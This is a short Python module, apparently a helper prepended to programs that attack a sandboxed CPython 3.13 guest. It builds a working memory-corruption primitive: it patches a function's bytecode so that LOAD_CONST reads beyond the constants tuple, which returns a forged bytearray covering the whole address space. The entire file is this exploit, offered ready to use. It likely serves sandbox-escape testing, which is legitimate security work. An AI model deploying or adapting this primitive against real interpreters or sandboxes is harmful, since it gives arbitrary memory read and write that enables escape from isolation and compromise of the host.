# SPDX-License-Identifier: MIT OR Apache-2.0
# Prepended to programs that attack memory: forges a bytearray over the whole address space of the guest, by bytecode
# that loads a "constant" from beyond the tuple of constants. Layouts are those of CPython 3.13 with 32-bit pointers.
import dis
import struct

BYTES_HEADER = 16
TUPLE_HEADER = 12


def _forge():
    return None


def forge_memory():
    fake = struct.pack("7I", 1_000_000, id(bytearray), 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0)
    pointer = struct.pack("I", id(fake) + BYTES_HEADER)
    items = id(_forge.__code__.co_consts) + TUPLE_HEADER
    index = ((id(pointer) + BYTES_HEADER - items) // 4) & 0x3FFFFFFF
    load, extend, leave = (dis.opmap[name] for name in ("LOAD_CONST", "EXTENDED_ARG", "RETURN_VALUE"))
    high, middle, low, lowest = index.to_bytes(4, "big")
    code = bytes([dis.opmap["RESUME"], 0, extend, high, extend, middle, extend, low, load, lowest, leave, 0])
    _forge.__code__ = _forge.__code__.replace(co_code=code)
    # What was forged must outlive the view of it.
    return _forge(), (fake, pointer)


memory, _keep_alive = forge_memory()
